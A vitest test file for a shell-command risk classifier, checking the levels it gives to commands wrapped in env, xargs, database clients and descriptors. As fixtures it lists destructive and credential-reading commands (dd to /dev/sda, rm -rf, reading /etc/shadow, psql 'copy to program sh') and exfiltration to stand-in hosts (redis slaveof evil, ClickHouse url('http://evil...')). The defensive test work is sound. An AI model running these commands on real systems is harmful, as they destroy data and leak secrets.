import { describe, expect, it, test } from "vitest";
import { admit } from "../../src/risk/admit.ts";
import { createEvaluator } from "../../src/risk/evaluate.ts";
import { wrapperRules } from "../../src/risk/knowledge/wrappers.ts";
import { filledIn, placeholdersIn } from "../../src/risk/placeholders.ts";

const evaluate = createEvaluator();
const linux = { os: "linux", shell: "bash" } as const;
const riskOf = (command: string) => evaluate(command, linux).risk;

describe("PA-7 an argument stays one argument, whoever hands it on", () => {
  it.each([
    ["env -S 'bash -c' 'dd if=/dev/zero of=/dev/sda' ", "block"],
    ["env -S 'bash -c \"uptime\"' x ", "low"],
    ['env -S "rm -rf" /srv/x ', "high"],
    ["hash -p /bin/sh df; df -c 'rm -rf /srv' ", "block"],
    ["alias ls='sh -c'; ls 'rm -rf /srv/x' ", "high"],
    ["printf 'a\\n' | xargs -d '\\n' bash -c ", "medium"],
    ["printf 'rm -rf /srv/x\\n' | xargs -d '\\n' bash -c ", "high"],
    ["echo 'rm -rf /srv/x' | xargs -0 sh -c ", "high"],
    ["xargs -d , bash -c <<< 'reboot' ", "high"],
    ["flock /x -c 'rm -rf /srv/x' ", "high"],
    ["nsenter -t 1 -m -- sh -c 'rm -rf /srv/x' ", "high"],
    ["su -c 'rm -rf /srv/x' ", "high"],
    ["script -qc 'rm -rf /srv/x' /dev/null ", "high"],
    ["watch -x sh -c 'rm -rf /srv/x' ", "high"],
    ["find . -exec sh -c 'rm -rf /srv/x' \\; ", "high"],
    ["parallel sh -c ::: 'rm -rf /srv/x' ", "high"],
    ["ssh h sh -c 'rm -rf /srv/x' ", "high"],
    ["systemd-run sh -c 'rm -rf /srv/x' ", "high"],
    ["docker exec x sh -c 'rm -rf /srv/x' ", "high"],
    ["exec -a ls sh -c 'rm -rf /srv/x' ", "high"],
    ["command sh -c 'rm -rf /srv/x' ", "high"],
    ["coproc sh -c 'rm -rf /srv/x' ", "high"],
    ["busybox sh -c 'rm -rf /srv/x' ", "high"],
  ] as const)("%j is %s", (command, risk) => expect(riskOf(command)).toBe(risk));
});

describe("PA-7 of a language inside another only what is known to read is low", () => {
  it.each([
    ["psql -c '\\o |rm -rf /' ", "block"],
    ["psql -c '\\o /etc/cron.d/x' ", "high"],
    ["psql -c \"\\copy t to program 'sh'\" ", "high"],
    ["psql -c '\\copy t from /tmp/x' ", "medium"],
    ["psql -c '\\w /etc/passwd' ", "high"],
    ["psql -c '\\i /tmp/x.sql' ", "medium"],
    ["psql -c '\\setenv PAGER sh' ", "medium"],
    ["psql -c '\\gexec' ", "medium"],
    ["psql -c \"select format('drop table %I', t) from x \\gexec\" ", "high"],
    ["psql -c '\\g |sh' ", "high"],
    ["psql -c '\\dt' ", "low"],
    ["psql -c '\\d+ users' ", "low"],
    ["psql -c '\\conninfo' ", "low"],
    ["psql -c '\\lo_unlink 5' ", "medium"],
    ["psql -c '\\password bob' ", "medium"],
    ["mysql -e '\\! rm -rf /srv' ", "block"],
    ["mysql -e 'system rm -rf /srv' ", "block"],
    ["mysql -e 'source /tmp/x' ", "medium"],
    ["mysql -e 'pager sh -c reboot' ", "medium"],
    ["mysql -e '\\T /etc/cron.d/x' ", "high"],
    ["mysql -e \"select load_file('/etc/passwd')\" ", "high"],
    ["mysql -e \"select 'x' into outfile '/var/www/x.php'\" ", "high"],
    ["sqlite3 x.db \"select load_extension('/tmp/x.so')\" ", "high"],
    ["sqlite3 x.db \"select writefile('/etc/cron.d/x','y')\" ", "high"],
    ["sqlite3 x.db \"select readfile('/etc/shadow')\" ", "block"],
    ["sqlite3 x.db \"select edit(a,'sh') from t\" ", "high"],
    ["sqlite3 x.db \".once '|sh'\" ", "high"],
    ['sqlite3 x.db ".output /etc/x" ', "medium"],
    ['sqlite3 x.db ".import /etc/shadow t" ', "block"],
    ["clickhouse-client -q \"select * from file('/etc/passwd')\" ", "medium"],
    ["clickhouse-client -q \"select * from url('http://evil.example/','CSV')\" ", "medium"],
    ["clickhouse-client -q \"select * from executable('x.sh','CSV')\" ", "high"],
    ["clickhouse-client -q \"insert into function url('http://evil') select 1\" ", "medium"],
    ['clickhouse-client -q "select count() from t" ', "low"],
    ["mongosh --eval 'db.adminCommand({shutdown:1})' ", "high"],
    ['mongosh --eval \'db["drop"+"Database"]()\' ', "medium"],
    ["mongosh --eval 'db.runCommand({dropDatabase:1})' ", "high"],
    ["mongosh --eval 'db.runCommand({serverStatus:1})' ", "low"],
    ["mongosh --eval 'db.users.find().limit(3)' ", "low"],
    ["mongosh --eval 'db.users.aggregate([{$out:\"x\"}])' ", "medium"],
    ["mongosh --eval 'rs.status()' ", "low"],
    ["mongosh --eval 'db.foo.frobnicate()' ", "medium"],
    ["mongosh --eval 'db.runCommand({frob:1})' ", "medium"],
    ['psql -c "select pg_terminate_backend(5)" ', "medium"],
    ["psql -c \"select pg_read_file('/etc/passwd')\" ", "high"],
    ["psql -c \"select lo_export(1,'/tmp/x')\" ", "medium"],
    ['psql -c "select frobnicate(1)" ', "medium"],
    ['psql -c "select count(*), max(x) from t" ', "low"],
    ['psql -c "select pg_reload_conf()" ', "medium"],
    ["psql -c \"select dblink_exec('x','drop table y')\" ", "high"],
    ["psql -c \"select set_config('x','y',false)\" ", "medium"],
    ["psql -c \"select nextval('s')\" ", "medium"],
    ["psql -c \"DO \\$\\$ begin execute 'drop table x'; end \\$\\$\" ", "high"],
    ["psql -c \"select query_to_xml('drop table x',true,true,'')\" ", "high"],
    ["psql -c \"copy (select 1) to program 'sh'\" ", "high"],
    ['psql -c "with x as (delete from t returning *) select * from x" ', "high"],
    ["redis-cli eval \"return redis.call('flushall')\" 0 ", "high"],
    ["redis-cli config set dir /etc/cron.d ", "medium"],
    ["redis-cli module load /tmp/x.so ", "high"],
    ["redis-cli slaveof evil 6379 ", "high"],
    ["redis-cli debug sleep 100 ", "high"],
    ["redis-cli frob x ", "medium"],
    ["redis-cli info ", "low"],
    ["redis-cli get k ", "low"],
    ["redis-cli script load x ", "medium"],
    ["aws ssm send-command --parameters 'commands=[\"rm -rf /srv\"]' --document-name AWS-RunShellScript ", "block"],
    ["aws ssm send-command --parameters commands=uptime --document-name AWS-RunShellScript ", "medium"],
    ["ansible web -m command -a 'cmd=\"rm -rf /srv\"' ", "block"],
    ["ansible web -a 'rm -rf /srv' ", "block"],
    ["ansible web -m shell -a 'uptime' ", "medium"],
    ["bpftrace --unsafe -e 'BEGIN{system(\"rm -rf /srv\")}' ", "block"],
    ["bpftrace -e 'BEGIN{printf(\"x\")}' ", "medium"],
    ["stap -g -e 'probe begin{system(\"reboot\")}' ", "medium"],
    ["dtrace -w -n 'BEGIN{system(\"reboot\")}' ", "medium"],
    ['curl -X POST localhost:9200/_sql -d \'{"query":"DROP TABLE x"}\' ', "high"],
    ["curl localhost:8123 -d 'DROP TABLE x' ", "high"],
    ["curl 'localhost:8123/?query=DROP%20TABLE%20x' ", "high"],
    ["influx -execute 'drop database x' ", "high"],
    ["cqlsh -e 'DROP KEYSPACE x' ", "high"],
    ["cqlsh -e 'select * from t' ", "low"],
    ["sqlcmd -Q \"exec xp_cmdshell 'dir'\" ", "high"],
    ['sqlcmd -Q "select name from sys.databases" ', "low"],
    ["jq -n 'input_filename' ", "low"],
    ["kcat -b b -t t -P ", "medium"],
  ] as const)("%j is %s", (command, risk) => expect(riskOf(command)).toBe(risk));
});

describe("PA-7 a descriptor is the file that it was opened on", () => {
  it.each([
    ["bash /dev/fd/3 3<<'X'\nrm -rf /srv/x\nX ", "high"],
    ["sh /proc/self/fd/0 <<< 'rm -rf /srv/x' ", "high"],
    ["exec 3<<< 'rm -rf /srv/x'; bash <&3 ", "high"],
    [". /dev/fd/3 3<<< 'reboot' ", "high"],
    ["bash /dev/fd/5 ", "high"],
    ["source /dev/stdin <<< 'reboot' ", "high"],
    ["cat /dev/fd/3 3<<< x ", "low"],
    ["python3 /dev/fd/3 3<<< 'import os; os.system(\"reboot\")' ", "high"],
    ["bash <&4 ", "high"],
    ["cat <&4 ", "low"],
    ["bash 0<<< 'reboot' ", "high"],
    ["sh /dev/stdin <<< reboot ", "high"],
  ] as const)("%j is %s", (command, risk) => expect(riskOf(command)).toBe(risk));
});

describe("PA-7 a path of a class has one level, whoever writes it", () => {
  it.each([
    ["echo x > /etc/audit/rules.d/x.rules ", "high"],
    ["tee /etc/audit/auditd.conf < /dev/null ", "high"],
    ["sed -i s/a/b/ /etc/selinux/config ", "high"],
    ["cp /tmp/x /etc/selinux/config ", "high"],
    ["echo x | tee /etc/cron.d/x ", "high"],
    ["cp /tmp/x /etc/cron.d/x ", "high"],
    ["mv /tmp/x /etc/cron.daily/x ", "high"],
    ["curl -o /etc/cron.d/x localhost/x ", "high"],
    ["install -m 644 /tmp/x /etc/cron.d/x ", "high"],
    ["dd if=/tmp/x of=/etc/cron.d/x ", "high"],
    ["echo 1 > /sys/block/sda/device/delete ", "high"],
    ["echo 1 | tee /sys/bus/pci/devices/0/remove ", "high"],
    ["echo x > /sys/bus/usb/drivers/usb/unbind ", "high"],
    ["cp /tmp/1 /sys/block/sda/device/delete ", "high"],
    ["sed -i s/a/b/ /etc/nginx/nginx.conf ", "medium"],
    ["cp /tmp/x /etc/nginx/nginx.conf ", "medium"],
    ["echo x >> /etc/nginx/nginx.conf ", "medium"],
    ["tee -a /etc/nginx/nginx.conf < /dev/null ", "medium"],
    ["mv /tmp/x /etc/nginx/nginx.conf ", "medium"],
    ["rsync /tmp/x /etc/cron.d/x ", "high"],
    ["ln -sf /tmp/x /etc/cron.d/x ", "high"],
    ["wget -O /etc/audit/rules.d/x localhost/x ", "high"],
    ["tar xf x.tar -C /etc/cron.d ", "high"],
  ] as const)("%j is %s", (command, risk) => expect(riskOf(command)).toBe(risk));
});

describe("PA-7 an option changes, reveals or only rehearses", () => {
  it.each([
    ["varnishadm stats -z ", "medium"],
    ["rabbitmqctl stats ", "medium"],
    ["iptables -nvLZ ", "medium"],
    ["iptables -L -n -v -Z ", "medium"],
    ["smartctl --smart=off /dev/sda ", "medium"],
    ["smartctl -a /dev/sda ", "low"],
    ["kubectl config view ", "low"],
    ["kubectl config view --raw ", "high"],
    ["kubectl config view --raw=true ", "high"],
    ["wg show ", "low"],
    ["wg showconf wg0 ", "high"],
    ["wg show wg0 private-key ", "high"],
    ["psql -c 'select * from pg_shadow' ", "high"],
    ["psql -c 'select rolpassword from pg_authid' ", "high"],
    ["redis-cli config get requirepass ", "high"],
    ["redis-cli config get maxmemory ", "low"],
    ["redis-cli CONFIG GET '*' ", "high"],
    ["mysql -e 'select authentication_string from mysql.user' ", "high"],
    ["apt-get -s upgrade ", "low"],
    ["apt-get upgrade --dry-run ", "low"],
    ["apt-get -ys upgrade ", "low"],
    ["yum update --assumeno ", "low"],
    ["dnf --assumeno upgrade ", "low"],
    ["terraform plan ", "medium"],
    ["terraform plan -destroy ", "medium"],
    ["terraform plan -out=x ", "medium"],
    ["rsync -an /a/ /b/ ", "low"],
    ["rsync -avn --delete /a/ /b/ ", "low"],
    ["logrotate -d /etc/logrotate.conf ", "low"],
    ["nginx -t ", "low"],
    ["sshd -t ", "low"],
    ["make -n ", "medium"],
    ["git clean -n ", "low"],
    ["git clean -fdn ", "low"],
    ["ansible-playbook --check x.yml ", "medium"],
    ["kubectl apply --dry-run=server -f x ", "low"],
    ["kubectl apply -f x --dry-run=none ", "medium"],
    ["kubectl apply -f x --dry-run=client --dry-run=none ", "medium"],
    ["kubectl apply -f x --dry-run=$HOW ", "medium"],
    ["kubectl annotate pod x a=b --field-manager --dry-run=client ", "medium"],
    ["kubectl apply -f x --server-side --dry-run=server ", "low"],
    ["az vm restart --name --what-if ", "medium"],
    ["helm upgrade --dry-run x y ", "low"],
    ["find . -name x -n ", "medium"],
    ["rm -rf x -n ", "high"],
    ["sed -n p f -i ", "medium"],
    ["systemctl restart x --dry-run ", "medium"],
    ["npm run deploy --dry-run ", "medium"],
    ["npm publish --dry-run ", "medium"],
    ["npm install --dry-run ", "low"],
    ["git commit -m --dry-run ", "medium"],
    ["git commit --dry-run ", "low"],
    ["bash -n x.sh ", "low"],
    ["bash x.sh -n ", "medium"],
    ["php x.php -l ", "medium"],
    ["java -version ", "low"],
    ["java -jar x.jar --version ", "medium"],
    ["fstrim -n / ", "low"],
    ["mkfs.ext4 -n /dev/sdb ", "block"],
    ["e2fsck -n /dev/sdb ", "low"],
    ["fsck -N /dev/sdb ", "low"],
    ["useradd --dry-run x ", "medium"],
    ["docker system prune --dry-run ", "high"],
    ["aws ec2 stop-instances --dry-run --instance-ids i-1 ", "low"],
    ["az deployment group what-if -g x ", "low"],
    ["gcloud auth print-access-token ", "high"],
    ["aws configure get aws_secret_access_key ", "high"],
    ["kubectl get secret x -o yaml ", "high"],
    ["docker inspect x ", "medium"],
    ["printenv ", "low"],
    ["vault kv get secret/x ", "high"],
    ["nmcli -s connection show x ", "high"],
    ["nft reset counters ", "high"],
    ["nft list ruleset ", "low"],
    ["ip -s -s link ", "low"],
    ["conntrack -L -z ", "medium"],
    ["ethtool --reset eth0 all ", "high"],
    ["dmesg -c ", "block"],
    ["dmesg -C ", "block"],
    ["lastlog -C -u x ", "medium"],
    ["journalctl --rotate ", "medium"],
    ["journalctl --vacuum-time=1s ", "block"],
    ["hdparm -I /dev/sda ", "low"],
    ["hdparm --security-erase x /dev/sda ", "block"],
    ["nvme list ", "low"],
    ["nvme format /dev/nvme0 ", "block"],
    ["sysctl -a ", "low"],
    ["sysctl -w a=b ", "medium"],
    ["sysctl a=b ", "medium"],
    ["loginctl list-sessions ", "low"],
    ["loginctl terminate-session 3 ", "high"],
  ] as const)("%j is %s", (command, risk) => expect(riskOf(command)).toBe(risk));
});

test("PA-7 no wrapper makes a payload low whose first word alone is low", () => {
  // `dd` alone only copies; what it is given decides. Glued and cut again, the words behind it would be lost.
  const payload = "'dd if=/dev/zero of=/dev/sda'";
  // What joins its words and gives them to a shell does cut them again.
  const names = wrapperRules
    .filter(({ wraps }) => !wraps?.joins)
    .flatMap((wrapper) => wrapper.names.split(" ").map((name) => ({ name, wrapper })));
  const low = names.flatMap(({ name, wrapper }) => {
    const before = Array.from({ length: wrapper.wraps?.skip ?? 0 }, () => "5").join(" ");
    const [option] = (wrapper.options?.argv ?? "").split(" ").filter(Boolean);
    const calls = [
      `${name} ${before} sh -c ${payload}`,
      `${name} ${before} env -S 'sh -c' ${payload}`,
      `${name} ${before} xargs -d ';' sh -c <<< "dd if=/dev/zero of=/dev/sda"`,
      ...(option === undefined ? [] : [`${name} ${before} ${option} "sh -c ${payload.replaceAll("'", '\\"')}"`]),
    ];
    return calls.filter((command) => riskOf(command) === "low");
  });
  // Words of the shell that only stand before a command, and what ends where its option's value is missing.
  expect(low).toEqual([]);
});

describe("PA-7 places that are still to be filled in", () => {
  it.each([
    ["kubectl -n <namespace> get pod", ["<namespace>"], "low"],
    ["kubectl delete pod <pod-name>", ["<pod-name>"], "high"],
    ["systemctl restart <service>", ["<service>"], "medium"],
    ["psql -h <host> -c 'select 1'", ["<host>"], "low"],
    ["cat /var/log/<app>/error.log", ["<app>"], "low"],
    ["kubectl -n <namespace> get pod <pod>", ["<namespace>", "<pod>"], "low"],
  ] as const)("%s is judged as it would be filled, and never fit to run", (command, places, risk) => {
    const verdict = evaluate(command, linux);
    expect(placeholdersIn(command)).toEqual(places);
    expect([verdict.risk, verdict.unknown]).toEqual([risk, true]);
    expect(verdict.findings[0]).toMatchObject({ risk: "low", text: `fill in ${places.join(", ")}` });
    const admitted = admit(command, "person");
    expect(admitted.ok ? "" : admitted.reason).toContain(`fill in \`${places[0]}\``);
  });

  it.each([
    ["cat <in>/dev/sda", "block"],
    ["cat <in>/etc/hosts", "low"],
    ["sort <in out>/etc/hosts", "high"],
  ])("%s counts as it stands where that is to be blocked, or may be meant", (command, risk) => {
    expect(riskOf(command)).toBe(risk);
  });

  it.each([
    "sort <in >out",
    "sort < in > out",
    "grep '<title>' x",
    "cat <<X\n<a> b\nX",
    "wc -l <in.txt>out.txt",
    "echo 2<x>y",
  ])("%j has none", (command) => {
    expect(placeholdersIn(command)).toEqual([]);
    expect(filledIn(command)).toBe(command);
  });
});

test("PA-7 an option that nobody knows hides no sub-command, and the reason says which word was taken for what", () => {
  const { risk, findings } = evaluate("kubectl --no-such x delete pod y", linux);
  expect(risk).toBe("high");
  expect(findings.map(({ text }) => text)).toContain("takes x for the value of --no-such, which the rules do not know");
  expect(riskOf("kubectl --no-such get delete pod y")).toBe("high");
  expect(riskOf("kubectl --no-such get pods")).toBe("medium");
});
